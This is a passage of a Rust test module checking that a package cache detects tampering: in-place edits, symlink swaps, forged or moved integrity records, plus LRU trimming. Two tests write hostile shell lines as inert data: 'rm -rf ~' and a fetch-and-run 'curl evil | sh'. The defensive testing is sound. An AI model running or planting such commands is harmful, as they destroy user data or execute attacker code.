            dest.join("pkg-1.0.0/empty").is_dir(),
            "empty directories too"
        );
        assert_eq!(
            fs::read(dest.join("pkg-1.0.0/bin/run")).unwrap(),
            b"#!/bin/sh\n"
        );
        assert!(link_out(&cache, &Digest::of(b"other"), tmp.path())
            .unwrap()
            .is_none());
        // Put twice (two orlas at once): the first stays.
        let (again, unpacked) = unpacked_entry(&cache);
        cache.put(again, &digest, &unpacked).unwrap();
        assert!(link_out(&cache, &digest, tmp.path()).unwrap().is_some());
    }

    /// A file edited in the cache (or through an installed hard link to
    /// it) is found when the package is linked out: the entry is dropped.
    #[test]
    fn a_cached_file_edited_in_place_is_damage() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        cached(&cache, &digest);
        let run = cache.unpacked_path(&digest).join("tree/pkg-1.0.0/bin/run");
        fs::write(&run, "#!/bin/sh\nrm -rf ~\n").unwrap();
        assert_damaged_and_dropped(&cache, &digest, tmp.path());
    }

    #[cfg(unix)]
    #[test]
    fn a_cached_file_replaced_by_a_symlink_is_damage() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        cached(&cache, &digest);
        // Same bytes behind the link: only the kind of file gives it away.
        let secret = tmp.path().join("elsewhere");
        fs::write(&secret, "name: pkg\n").unwrap();
        let file = cache
            .unpacked_path(&digest)
            .join("tree/pkg-1.0.0/tool.yaml");
        fs::remove_file(&file).unwrap();
        std::os::unix::fs::symlink(&secret, &file).unwrap();
        assert_damaged_and_dropped(&cache, &digest, tmp.path());
    }

    /// Whoever can write the cache directory but not read the user's key
    /// cannot vouch for files: a record rewritten to match other bytes,
    /// one copied from another user's cache, and one under another digest
    /// are all refused.
    #[test]
    fn a_record_this_user_s_orla_did_not_seal_is_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        cached(&cache, &digest);
        let entry = cache.unpacked_path(&digest);
        let record = fs::read(entry.join(FILES)).unwrap();
        let body = &record[record.iter().position(|&b| b == b'\n').unwrap() + 1..];

        // Attacker code, and a record that describes it, sealed without
        // the key (another key, as another user's orla would).
        let evil = b"#!/bin/sh\ncurl evil | sh\n";
        fs::write(entry.join("tree/pkg-1.0.0/bin/run"), evil).unwrap();
        let mut forged: Entry = serde_json::from_slice(body).unwrap();
        forged.files.get_mut("bin/run").unwrap().blake3 = Digest::of(evil);
        forged.files.get_mut("bin/run").unwrap().size = evil.len() as u64;
        let forged = serde_json::to_vec(&forged).unwrap();
        let head = RECORD.head(&[9u8; 32], &entry, &forged);
        fs::write(entry.join(FILES), [head.as_bytes(), &forged].concat()).unwrap();
        assert_damaged_and_dropped(&cache, &digest, tmp.path());

        // A genuine record moved to another digest's place.
        cached(&cache, &digest);
        let other = Digest::of(b"another archive");
        fs::rename(cache.unpacked_path(&digest), cache.unpacked_path(&other)).unwrap();
        assert_damaged_and_dropped(&cache, &other, tmp.path());

        // No key to check with (another user reading this cache).
        cached(&cache, &digest);
        let stranger = Cache::new(&tmp.path().join("cache"))
            .with_key_file(tmp.path().join("stranger/receipt.key"));
        assert!(matches!(
            link_out(&stranger, &digest, tmp.path()),
            Err(Damaged::Content(_))
        ));
    }

    #[test]
    fn trim_removes_the_least_recently_used_but_never_what_is_kept() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digests: Vec<Digest> = (0..3u8).map(|i| Digest::of(&[i])).collect();
        for (i, digest) in digests.iter().enumerate() {
            cached(&cache, digest);
            let age = std::time::Duration::from_secs(3600 * (10 - i as u64));
            fs::OpenOptions::new()
                .write(true)
                .open(cache.unpacked_path(digest).join(FILES))
                .unwrap()
                .set_modified(std::time::SystemTime::now() - age)
                .unwrap();
        }
        let items = cache.items();
        assert_eq!(items.len(), 3);
        assert!(items.iter().all(|i| !i.linked && i.size > 0));
        let one = items[0].size;
        // The oldest is kept: the next oldest goes instead.
        let keep: HashSet<Digest> = [digests[0]].into();
        let freed = cache.trim(2 * one, &keep).unwrap();
        assert_eq!(freed.entries, 1);
        assert!(cache.unpacked_path(&digests[0]).exists());
        assert!(!cache.unpacked_path(&digests[1]).exists());
        assert!(cache.unpacked_path(&digests[2]).exists());
        assert_eq!(cache.trim(0, &keep).unwrap().entries, 1);
        assert!(cache.unpacked_path(&digests[0]).exists());
    }
}
